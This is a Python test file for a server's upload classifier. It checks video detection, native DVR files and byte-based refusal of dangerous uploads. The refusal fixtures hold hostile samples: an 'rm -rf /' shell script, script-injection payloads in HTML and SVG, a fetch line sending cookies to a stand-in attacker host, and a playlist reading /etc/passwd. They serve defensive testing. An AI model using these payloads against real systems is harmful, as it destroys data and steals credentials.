"""Classifying uploads: playable video, native/proprietary kept as-is, dangerous types refused."""

from __future__ import annotations

import gzip
import io
import random
import shutil
import subprocess
import zipfile

import pytest

from server_stub import classify

needs_ffmpeg = pytest.mark.skipif(
    shutil.which("ffmpeg") is None or shutil.which("ffprobe") is None,
    reason="ffmpeg is not installed (installers/debian-packages.txt lists it)",
)


@needs_ffmpeg
def test_a_real_h264_clip_is_playable_with_its_duration(tmp_path):
    clip = tmp_path / "upload.bin"  # a generated name, as in evidence: no extension helps
    subprocess.run(
        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "testsrc=duration=2:size=320x240:rate=15",
         "-c:v", "libx264", "-pix_fmt", "yuv420p", "-f", "mp4", str(clip)],
        check=True, timeout=120,
    )
    result = classify.classify(clip)
    assert result.kind == "playable", result
    assert result.summary["codec"] == "h264"
    assert (result.summary["width"], result.summary["height"]) == (320, 240)
    assert result.summary["duration"] == pytest.approx(2.0, abs=0.2)
    assert result.summary["start_time"] is None  # the file does not say when it was recorded


@needs_ffmpeg
def test_a_clip_that_says_when_it_was_recorded_gives_its_start_time(tmp_path):
    clip = tmp_path / "upload.bin"
    subprocess.run(
        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "testsrc=duration=1:size=160x120:rate=15",
         "-c:v", "libx264", "-pix_fmt", "yuv420p", "-metadata", "creation_time=2026-11-25T14:03:00Z",
         "-f", "mp4", str(clip)],
        check=True, timeout=120,
    )
    assert classify.classify(clip).summary["start_time"] == "2026-11-25T14:03:00+00:00"


@needs_ffmpeg
def test_random_bytes_from_a_dvr_are_native_and_kept(tmp_path):
    dav = tmp_path / "export.dav"
    dav.write_bytes(b"DHAV" + random.Random(3).randbytes(200_000))
    result = classify.classify(dav)
    assert result.kind == "native" and "kept as-is" in result.note


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("player.exe", b"MZ" + bytes(100))
    return buffer.getvalue()


@pytest.mark.parametrize("content, reason", [
    (b"\x7fELF\x02\x01\x01" + bytes(500), "executable"),
    (b"MZ\x90\x00\x03" + bytes(500), "executable"),
    (b"\xcf\xfa\xed\xfe" + bytes(500), "executable"),
    (_zip(), "zip archive"),
    (gzip.compress(b"x" * 1000, mtime=0), "gzip archive"),
    (b"Rar!\x1a\x07\x01\x00" + bytes(100), "RAR archive"),
    (b"7z\xbc\xaf\x27\x1c" + bytes(100), "7-Zip archive"),
    (b"#!/bin/sh\nrm -rf /\n", "script"),
    (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "web page"),
    (b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "web page"),
    (b"fetch('https://evil.example/' + document.cookie);\n", "text file"),
    (b"#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n", "playlist"),
    (b"", "empty"),
], ids=lambda value: value if isinstance(value, str) else None)
def test_dangerous_types_are_refused_by_their_bytes_not_their_names(tmp_path, content, reason):
    path = tmp_path / "clip.mp4"  # the name claims a video; the bytes decide
    path.write_bytes(content)
    result = classify.classify(path)
    assert result.kind == "refused" and reason in result.note


def test_without_ffprobe_a_file_is_kept_as_native_and_says_so(tmp_path, monkeypatch):
    path = tmp_path / "upload.bin"
    path.write_bytes(b"DHAV" + bytes(1000))
    monkeypatch.setattr(classify.shutil, "which", lambda name: None)
    result = classify.classify(path)
    assert result.kind == "native" and "ffprobe is not installed" in result.note
    missing = classify.classify(path, ffprobe=str(tmp_path / "no-such-ffprobe"))
    assert missing.kind == "native" and missing.note.startswith("not probed")


def _report(*streams, container="mov,mp4,m4a,3gp,3g2,mj2", duration="12.5"):
    return {"format": {"format_name": container, "duration": duration}, "streams": list(streams)}


@pytest.mark.parametrize("report, kind", [
    (_report({"codec_type": "video", "codec_name": "hevc", "width": 1920}), "playable"),
    (_report({"codec_type": "video", "codec_name": "vp9"}, container="matroska,webm"), "playable"),
    (_report({"codec_type": "video", "codec_name": "some_dvr_codec"}), "native"),
    (_report({"codec_type": "audio", "codec_name": "mp3"}, container="mp3"), "native"),
    (_report({"codec_type": "audio", "codec_name": "mp3"},
             {"codec_type": "video", "codec_name": "mjpeg", "disposition": {"attached_pic": 1}},
             container="mp3"), "native"),
    (_report({"codec_type": "video", "codec_name": "png"}, container="png_pipe"), "native"),
    (_report(), "native"),
])
def test_the_rules_on_ffprobe_reports(report, kind):
    assert classify.from_report(report).kind == kind
